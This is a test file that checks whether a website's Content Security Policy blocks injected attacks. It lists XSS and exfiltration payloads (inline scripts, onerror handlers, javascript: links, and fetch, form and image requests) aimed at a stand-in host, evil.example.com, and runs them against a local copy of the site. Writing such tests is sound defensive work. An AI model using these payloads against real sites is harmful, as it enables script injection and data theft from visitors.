import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { openSite } from '../support/page.ts';
import { sample } from '../support/sample.ts';
import { serveFile } from '../support/serve-file.ts';
import { sites } from '../support/sites.ts';
import { routes } from './support.ts';

const { dist } = sites.real;
const site = openSite(dist);
const frontPage = readFileSync(join(dist, 'index.html'), 'utf8');

/** Serves the files of the site as a host does that ignores `_headers`, with a front page that somebody has changed. */
async function serveWithoutHeaders(html: string): Promise<string> {
  const server = createServer((request, response) => {
    if (request.url === '/') response.setHeader('Content-Type', 'text/html; charset=utf-8').end(html);
    else serveFile(dist, request, response);
  });
  onTestFinished(() => {
    server.close();
    server.closeAllConnections();
  });
  await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve));
  const address = server.address();
  return `http://localhost:${typeof address === 'object' ? address?.port : ''}`;
}

const evil = 'https://evil.example.com';

/** What is put into the page, and code that runs there as that of an attacker who could already run some. */
interface Attack {
  name: string;
  html?: string;
  code?: string;
  /** Whether it reaches another host, instead of running code that sets `hacked`. */
  asks?: true;
}

const press = "document.querySelector('#attack').click()";
const attacks: Attack[] = [
  { name: 'an inline script', html: '<script>window.hacked = true</script>' },
  { name: 'a script of another host', html: `<script src="${evil}/x.js"></script>` },
  { name: 'an inline handler', html: '<img src="/no-such-image" onerror="window.hacked = true">' },
  { name: 'a javascript: link', html: '<a id="attack" href="javascript:void (hacked = true)">x</a>', code: press },
  { name: 'a frame with srcdoc', html: '<iframe srcdoc="&lt;script>parent.hacked = true&lt;/script>"></iframe>' },
  // In a timer, as browsers let a debugger evaluate strings.
  { name: 'code in a string', code: "setTimeout(() => eval('window.hacked = true'))" },
  { name: 'HTML in a string', code: 'document.body.innerHTML = \'<img src=/none onerror="window.hacked=true">\'' },
  { name: 'a base for all addresses', html: `<base href="${evil}/"><img src="pixel.png">`, asks: true },
  { name: 'an image of another host', html: `<img src="${evil}/pixel.png">`, asks: true },
  { name: 'an image in a style', html: `<style>body { background: url(${evil}/pixel.png) }</style>`, asks: true },
  { name: 'an image in an attribute', html: `<p style="background: url(${evil}/pixel.png)">x</p>`, asks: true },
  { name: 'a style sheet of another host', html: `<link rel="stylesheet" href="${evil}/x.css">`, asks: true },
  { name: 'a frame of another host', html: `<iframe src="${evil}/frame"></iframe>`, asks: true },
  { name: 'an object', html: `<object data="${evil}/frame"></object>`, asks: true },
  { name: 'a video', html: `<video src="${evil}/video" autoplay muted></video>`, asks: true },
  { name: 'a request', code: `fetch('${evil}/data', { mode: 'no-cors' })`, asks: true },
  { name: 'a form', html: `<form action="${evil}/form"><button id="attack"></button></form>`, code: press, asks: true },
];

/** Opens a page with an attack. @returns whether it has succeeded, once it has or was stopped */
async function hasActed(html: string, { code = '', asks }: Attack): Promise<boolean> {
  const { page, violations } = await site.newPage();
  const asked: string[] = [];
  await page.route(`${evil}/**`, (route) => {
    asked.push(route.request().url());
    const isScript = route.request().url().endsWith('.js');
    return route.fulfill(isScript ? { contentType: 'text/javascript', body: 'window.hacked = true' } : { body: '' });
  });
  await page.goto(await serveWithoutHeaders(html), { waitUntil: 'networkidle' });
  // It may lead to another page, or be refused.
  await page.evaluate(`void (async () => { ${code} })().catch(() => {})`).catch(() => {});
  const isHacked = async () => (asks ? asked.length > 0 : page.evaluate(() => 'hacked' in window).catch(() => false));
  await expect.poll(async () => (await isHacked()) || violations.length > 0).toBe(true);
  await page.waitForLoadState('networkidle');
  const acted = await isHacked();
  violations.length = 0;
  return acted;
}

describe('on a host that ignores `_headers`, the policy in the page', () => {
  test.each(sample(attacks, 17))('stops $name', async (attack) => {
    const html = frontPage.replace('<main', () => `${attack.html ?? ''}<main`);
    const unprotected = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
    expect(unprotected, 'The policy must have been there.').not.toBe(html);
    expect(await hasActed(unprotected, attack), 'Without the policy it acts, else this proves nothing.').toBe(true);
    expect(await hasActed(html, attack)).toBe(false);
  });

  test('lets every form and frame of the site work', async () => {
    const { page, thirdParties, errors } = await site.newPage();
    const address = await serveWithoutHeaders(frontPage);
    await page.goto(address, { waitUntil: 'networkidle' });
    await page.getByRole('main').getByRole('textbox').fill('visitor@example');
    await page.keyboard.press('Enter');
    await page.locator('#toasts').getByText('Please enter a valid email address').waitFor();
    await page.goto(`${address}/book-call/`, { waitUntil: 'networkidle' });
    await page.locator('.embed summary').click();
    await expect.poll(() => new Set(thirdParties).size).toBe(1);
    expect(errors).toEqual([]);
  });
});

test('a page of another host cannot put a page of the site into a frame', async () => {
  const { page, violations } = await site.newPage();
  await page.goto(await serveWithoutHeaders(`<iframe src="${site.address}/contact"></iframe>`));
  await expect.poll(() => violations.splice(0).join('\n')).toContain('frame-ancestors ');
});

test.each(
  sample(
    routes.flatMap((path) => [390, 1440].map((width) => ({ path, width }))),
    24,
  ),
)('$path asks no third party for anything but the frames that are in sight, at $width px', async ({ path, width }) => {
  const { page, thirdParties } = await site.newPage({ viewport: { width, height: 900 } });
  await page.goto(site.address + path, { waitUntil: 'networkidle' });
  const inSight = await page
    .locator('iframe[data-src]')
    .evaluateAll((frames) =>
      frames
        .filter((frame) => frame.checkVisibility() && frame.getBoundingClientRect().top < innerHeight + 100)
        .map((frame) => frame.getAttribute('data-src')),
    );
  expect(
    thirdParties.filter((address) => !inSight.includes(address)),
    'Load what belongs to others only when it is wanted.',
  ).toEqual([]);
});
